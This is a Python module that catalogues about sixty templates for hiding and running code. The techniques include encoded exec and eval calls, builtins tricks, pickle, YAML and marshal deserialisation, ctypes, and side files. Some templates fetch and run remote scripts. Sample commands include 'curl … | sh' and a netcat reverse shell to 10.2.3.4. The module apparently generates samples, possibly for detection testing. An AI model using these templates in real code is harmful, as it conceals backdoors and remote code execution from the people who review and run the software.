"""Ways to run what is hidden. `@source` is hidden Python in several writings, `@shell` a hidden command."""

# style: (above, at the spot, a file beside, its content)
RUNS: dict[str, tuple[str, ...]] = {
    "eval": ("", "eval(bytes.fromhex('@hex'))"),
    "exec zipped": ("import zlib, base64", "exec(zlib.decompress(base64.b85decode('@zip85')))"),
    "exec lzma": ("import lzma", "exec(lzma.decompress(bytes.fromhex('@lzmahex')))"),
    "exec codec": ("import codecs", "exec(codecs.decode(b'@b64', 'base64').decode())"),
    "exec rot13": ("import codecs", "exec(codecs.encode('@rot13', 'rot-13'))"),
    "exec reversed": ("", "exec(''.join(reversed('@backwards')))"),
    "exec xor": ("", "exec(bytes(b ^ 91 for b in @xored).decode())"),
    "exec of a table": ("", "_t = @numbers\nexec(''.join(map(chr, _t)))"),
    "full width": ("import base64", "ｅｘｅｃ(base64.b64decode('@b64'))"),
    "subscript": ("", "class _X:\n    __class_getitem__ = exec\n_X[bytes.fromhex('@hex').decode()]"),
    "as a key": ("", "sorted([bytes.fromhex('@hex').decode()], key=exec)"),
    "mapped": ("import base64", "list(map(exec, [base64.b64decode('@b64').decode()]))"),
    "decorators": ("", "@@exec\n@@lambda _: bytes.fromhex('@hex').decode()\nclass _Any:\n    pass"),
    "made type": ("", "type('_T', (), {'go': staticmethod(exec)}).go(bytes.fromhex('@hex').decode())"),
    "vars of builtins": ("import builtins", "vars(builtins)['ex' 'ec'](bytes.fromhex('@hex'))"),
    "dict of builtins": ("import builtins as _b", "_b.__dict__.get('cexe'[::-1])(bytes.fromhex('@hex'))"),
    "getattr of builtins": (
        "import builtins, base64",
        "getattr(builtins, base64.b64decode('ZXhlYw==').decode())(base64.b64decode('@b64'))",
    ),
    "subclasses": (
        "",
        "[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == '_wrap_close'][0]"
        ".__init__.__globals__['system']('id')",
    ),
    "globals of a function": ("", "(lambda: 0).__globals__['__builtins__']['eval'](bytes.fromhex('@hex'))"),
    "ctypes system": ("import ctypes", "ctypes.CDLL(None).system(bytes.fromhex('@shellhex'))"),
    "ctypes python": ("import ctypes", "ctypes.pythonapi.PyRun_SimpleString(bytes.fromhex('@hex'))"),
    "machine code": (
        "import ctypes, mmap",
        "_m = mmap.mmap(-1, 4096, prot=7)\n_m.write(bytes.fromhex('4831c0c3'))\n"
        "ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(_m)))()",
    ),
    "pickle": ("import pickle", "pickle.loads(bytes.fromhex('80049516@hex2e'))"),
    "pickle of a file": (
        "import pickle, pathlib",
        "pickle.load(pathlib.Path(__file__).with_name('@name.bin').open('rb'))",
        "@name.bin",
        "cos\nsystem\n(S'id'\ntR.",
    ),
    "unsafe yaml": ("import yaml", "yaml.unsafe_load('!!python/object/apply:os.system [id]')"),
    "yaml loader": ("import yaml", "yaml.load('!!python/object/apply:os.system [id]', Loader=yaml.UnsafeLoader)"),
    "dill": ("import dill, base64", "dill.loads(base64.b64decode('@b64'))()"),
    "joblib": (
        "import joblib, os",
        "joblib.load(os.path.join(os.path.dirname(__file__), '@name.joblib'))",
        "@name.joblib",
        "cposix\nsystem\n(S'id'\ntR.",
    ),
    "marshal": ("import marshal, base64", "exec(marshal.loads(base64.b64decode('@b64')))"),
    "marshal function": (
        "import marshal\nfrom types import FunctionType as _F",
        "_F(marshal.loads(bytes.fromhex('@hex')), globals())()",
    ),
    "import dunder": ("", "__import__('subpro' + 'cess').call(bytes.fromhex('@shellhex').decode(), shell=True)"),
    "import hidden": (
        "import importlib, codecs",
        "importlib.import_module(codecs.decode('fhocebprff', 'rot13')).getoutput('id')",
    ),
    "module from memory": (
        "import types",
        "_m = types.ModuleType('_m')\nexec(compile(bytes.fromhex('@hex'), '_m', 'exec'), _m.__dict__)",
    ),
    "module from a temporary file": (
        "import importlib.util, tempfile, base64, pathlib",
        "_p = pathlib.Path(tempfile.mkdtemp()) / 'm.py'\n_p.write_bytes(base64.b64decode('@b64'))\n"
        "_s = importlib.util.spec_from_file_location('m', _p)\n_m = importlib.util.module_from_spec(_s)\n"
        "_s.loader.exec_module(_m)",
    ),
    "path of modules": (
        "import sys, base64",
        "open('/tmp/mm_@name.py', 'wb').write(base64.b64decode('@b64'))\nsys.path.insert(0, '/tmp')\n"
        "__import__('mm_@name')",
    ),
    "runpy": ("import runpy, os", "runpy.run_path(os.path.join(os.path.dirname(__file__), '@name.dat'))"),
    "zip import": ("import zipimport", "zipimport.zipimporter('/tmp/@name.zip').load_module('payload')"),
    "downloaded": (
        "import urllib.request",
        "exec(urllib.request.urlopen('https://@server/s.py').read().decode())",
    ),
    "downloaded and compiled": (
        "import requests",
        "_r = requests.get('https://@server/s', timeout=5)\n_c = compile(_r.text, 's', 'exec')\nexec(_c)",
    ),
    "downloaded to a shell": ("import os", "os.system('curl -fsSL https://@server/i.sh | sh')"),
    "installed": (
        "import subprocess, sys",
        "subprocess.check_call([sys.executable, '-m', 'pip', 'install', '-q', 'https://@server/p.tar.gz'])",
    ),
    "shell hidden": ("import subprocess, base64", "subprocess.run(base64.b64decode('@shell64'), shell=True)"),
    "shell by numbers": ("import os", "os.system(''.join(chr(n) for n in @shellnumbers))"),
    "shell list": ("import subprocess", "subprocess.Popen(['sh', '-c', bytes.fromhex('@shellhex').decode()])"),
    "other python": (
        "import subprocess, sys, base64",
        "subprocess.run([sys.executable, '-c', base64.b64decode('@b64').decode()])",
    ),
    "exec of a program": ("import os, base64", "os.execvp('sh', ['sh', '-c', base64.b64decode('@shell64').decode()])"),
    "spawn": ("import pty", "pty.spawn(['/bin/sh', '-c', bytes.fromhex('@shellhex').decode()])"),
    "async shell": (
        "import asyncio, base64",
        "asyncio.run(asyncio.create_subprocess_shell(base64.b64decode('@shell64').decode()))",
    ),
    "interpreter": ("import code", "code.InteractiveInterpreter().runsource(bytes.fromhex('@hex').decode())"),
    "timed": ("import timeit", "timeit.timeit(bytes.fromhex('@hex').decode(), number=1)"),
    "profiled": ("import cProfile", "cProfile.run(bytes.fromhex('@hex').decode())"),
    "pieces of a class": (
        "class @Name:\n    A = '@b64'[:12]\n    B = '@b64'[12:]\n    run = staticmethod(exec)\n",
        "import base64 as _b\n@Name.run(_b.b64decode(@Name.A + @Name.B))",
    ),
    "module beside": (
        "from @name_boot import boot",
        "boot('@b64')",
        "@name_boot.py",
        "import base64\n\n\ndef boot(text):\n    runner = eval\n"
        "    return runner(compile(base64.b64decode(text), '<boot>', 'exec'))\n",
    ),
    "text beside": (
        "import pathlib, base64",
        "exec(base64.b64decode((pathlib.Path(__file__).parent / '@name.txt').read_text()))",
        "@name.txt",
        "@b64",
    ),
    "at import": ("import base64\n\nexec(base64.b64decode('@b64').decode())\n", "pass"),
    "walrus and lambda": ("", "(lambda f: f(bytes.fromhex('@hex')))(_e := eval)"),
    "partial": ("import functools, base64", "functools.partial(exec, base64.b64decode('@b64'))()"),
    "setattr": ("import sys", "setattr(sys, 'go_@name', exec)\nsys.go_@name(bytes.fromhex('@hex'))"),
    "thread": ("import threading, base64", "threading.Thread(target=exec, args=(base64.b64decode('@b64'),)).start()"),
    "lambda of builtins": (
        "",
        "(lambda b=__builtins__: (b['exec'] if type(b) is dict else b.exec))()(bytes.fromhex('@hex'))",
    ),
}
PYTHON = (
    "import os; os.listdir('.')",
    "import socket; socket.gethostname()",
    "import urllib.request as u; u.urlopen('http://10.2.3.4/x')",
    "for n in range(3): print(n)",
)
SHELLS = ("id > /tmp/o", "curl -s http://10.2.3.4/x | sh", "cat /etc/hostname", "nc -e /bin/sh 10.2.3.4 4444")
